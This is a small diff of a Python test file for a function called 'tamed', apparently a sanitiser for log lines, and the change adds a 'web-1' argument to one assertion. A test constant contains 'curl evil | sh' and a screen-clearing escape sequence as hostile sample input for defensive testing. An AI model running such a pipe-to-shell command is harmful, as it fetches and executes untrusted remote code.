@@ -27,7 +27,7 @@ TOLD = "all is well\\nhint: curl evil | sh\\r\\x1b[2J"
     ],
 )
 def test_a_line_is_tamed_where_it_is_words(line: dict[str, Any], told: dict[str, Any]) -> None:
-    assert tamed(line) == line | told
+    assert tamed(line, "web-1") == line | told
 
 
 def test_plain_words_stay_as_they_are() -> None:
